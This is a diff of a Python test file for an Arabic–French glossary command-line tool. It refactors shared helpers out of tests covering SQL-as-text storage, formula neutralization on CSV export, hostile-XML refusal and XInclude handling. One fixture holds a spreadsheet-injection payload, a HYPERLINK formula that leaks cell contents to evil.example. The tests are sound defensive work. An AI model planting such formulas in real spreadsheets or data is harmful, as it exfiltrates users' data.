@@ -15,10 +15,11 @@ from click.testing import CliRunner
 from lxml import etree
 
 from glossary.cli import cli
-from glossary.commands_formats import export_command, import_command
+from glossary.commands_formats import export_command
 from glossary.store import Store
 
 from .conftest import SEEDS
+from .helpers import preferred, run_import, write_csv
 
 DATA = Path(__file__).resolve().parent / "data" / "formats"
 DGST_AR = "المديرية العامة لمراقبة التراب الوطني"
@@ -61,18 +62,6 @@ def tables(db: Path) -> list[tuple[str, int]]:
         conn.close()
 
 
-def _write_csv(path: Path, rows: list[list[str]]) -> Path:
-    with path.open("w", encoding="utf-8", newline="") as out:
-        csv.writer(out, lineterminator="\r\n").writerows(rows)
-    return path
-
-
-def _import(runner: CliRunner, path: Path, db: Path, *args: str) -> tuple[int, str]:
-    result = runner.invoke(import_command, [str(path), "--db", str(db), *args])
-    assert "Traceback" not in result.output, result.output
-    return result.exit_code, result.stderr
-
-
 def _export(runner: CliRunner, db: Path, *args: str) -> str:
     result = runner.invoke(export_command, ["--db", str(db), *args])
     assert result.exit_code == 0, result.output
@@ -87,18 +76,6 @@ def _counts(db: Path) -> tuple[int, ...]:
     )
     store.close()
     return counts
-
-
-def _preferred(db: Path, ar: str) -> dict[str, object]:
-    store = Store(db)
-    rows = store.query(
-        "SELECT e.status, e.note, q.fr, q.acronym FROM entries e JOIN equivalents q "
-        "ON q.entry_id = e.id AND q.preferred = 1 WHERE e.ar = ?",
-        [ar],
-    )
-    store.close()
-    assert len(rows) == 1, rows
-    return rows[0]
 
 
 # --- SQL is text ---------------------------------------------------------------------------
@@ -130,7 +107,7 @@ def test_sql_in_an_edit_is_stored_as_text(runner: CliRunner, fresh_db: Path, val
     )
     assert result.exit_code == 0, result.output
     assert tables(fresh_db) == [(n, c + 1 if n == "equivalents" else c) for n, c in before]
-    row = _preferred(fresh_db, DGST_AR)
+    row = preferred(fresh_db, DGST_AR)
     assert (row["fr"], row["note"]) == (french, value)
     found = runner.invoke(cli, ["lookup", french, "--db", str(fresh_db)])
     assert found.exit_code == 0 and DGST_AR in found.stdout
@@ -141,19 +118,19 @@ def test_sql_in_an_imported_file_is_stored_as_text(
     runner: CliRunner, fresh_db: Path, tmp_path: Path, value: str
 ) -> None:
     before = tables(fresh_db)
-    source = _write_csv(
+    source = write_csv(
         tmp_path / "theirs.csv",
         [
             ["ar", "fr", "variants", "context", "note"],
             [BORDER_AR, f"garde {value}", f"{BORDER_AR} {value}", f"{BORDER_AR} {value}", value],
         ],
     )
-    code, err = _import(runner, source, fresh_db)
+    code, err = run_import(runner, source, fresh_db)
     assert code == 0, err
     after = dict(tables(fresh_db))
     assert after.keys() == dict(before).keys()  # no table dropped, none added
     assert after["entries"] == dict(before)["entries"] + 1
-    row = _preferred(fresh_db, BORDER_AR)
+    row = preferred(fresh_db, BORDER_AR)
     assert (row["fr"], row["note"]) == (f"garde {value}", value)
 
 
@@ -206,14 +183,14 @@ def test_a_formula_in_a_french_cell_comes_out_neutralized(
     runner: CliRunner, tmp_path: Path
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez")'
-    source = _write_csv(
+    source = write_csv(
         tmp_path / "in.csv",
         [["ar", "fr"], [BORDER_AR, formula], ["الوكالة الوطنية للموانئ", "+33 1 23"]],
     )
     db = tmp_path / "g.db"
-    code, err = _import(runner, source, db)
+    code, err = run_import(runner, source, db)
     assert code == 0, err
-    assert _preferred(db, BORDER_AR)["fr"] == formula  # the data is kept as given
+    assert preferred(db, BORDER_AR)["fr"] == formula  # the data is kept as given
     rows = {r["ar"]: r for r in csv.DictReader(io.StringIO(_export(runner, db)))}
     assert rows[BORDER_AR]["fr"] == "'" + formula
     assert rows["الوكالة الوطنية للموانئ"]["fr"] == "'+33 1 23"
@@ -226,9 +203,9 @@ def test_a_neutralized_csv_imports_back_to_the_values_as_they_were(
     exported = tmp_path / "out.csv"
     exported.write_text(_export(runner, fresh_db), encoding="utf-8")
     db = tmp_path / "copy.db"
-    code, err = _import(runner, exported, db)
+    code, err = run_import(runner, exported, db)
     assert code == 0, err
-    row = _preferred(db, "=" + DGST_AR)
+    row = preferred(db, "=" + DGST_AR)
     assert (row["fr"], row["acronym"]) == ("=SUM(A1:A9)", "=DGST")
 
 
@@ -281,14 +258,14 @@ def test_hostile_xml_is_refused_and_nothing_imported(
     runner: CliRunner, fresh_db: Path, tmp_path: Path, name: str
 ) -> None:
     before = _counts(fresh_db)
-    code, err = _import(runner, DATA / name, fresh_db)
+    code, err = run_import(runner, DATA / name, fresh_db)
     assert code == 2
     lines = err.strip().splitlines()
     assert len(lines) == 1 and lines[0].startswith("error: ")
     assert "refused" in lines[0] and "nothing imported" in lines[0]
     assert _counts(fresh_db) == before
     empty = tmp_path / "new.db"
-    assert _import(runner, DATA / name, empty)[0] == 2
+    assert run_import(runner, DATA / name, empty)[0] == 2
     assert not empty.exists()  # refused before a db was even created
 
 
@@ -308,9 +285,9 @@ def test_an_xinclude_is_not_followed(runner: CliRunner, tmp_path: Path) -> None:
         encoding="utf-8",
     )
     db = tmp_path / "g.db"
-    code, err = _import(runner, source, db)
+    code, err = run_import(runner, source, db)
     assert code == 0, err
-    assert _preferred(db, BORDER_AR)["fr"] == "garde"
+    assert preferred(db, BORDER_AR)["fr"] == "garde"
     assert b"secret" not in db.read_bytes()
 
 
@@ -344,12 +321,12 @@ def test_paths_in_imported_data_are_never_written_to(
         "</body></text></tbx>\n",
         encoding="utf-8",
     )
-    note = _write_csv(
+    note = write_csv(
         tmp_path / "note.csv",
         [["ar", "fr", "note"], ["الوكالة الوطنية للموانئ", "ANP", str(absent)]],
     )
-    assert _import(runner, tbx, fresh_db)[0] == 0
-    assert _import(runner, note, fresh_db)[0] == 0
+    assert run_import(runner, tbx, fresh_db)[0] == 0
+    assert run_import(runner, note, fresh_db)[0] == 0
     assert runner.invoke(cli, ["lookup", BORDER_AR, "--db", str(fresh_db)]).exit_code == 0
     for fmt in ("csv", "tbx", "omegat"):
         exported = _export(runner, fresh_db, "--format", fmt)
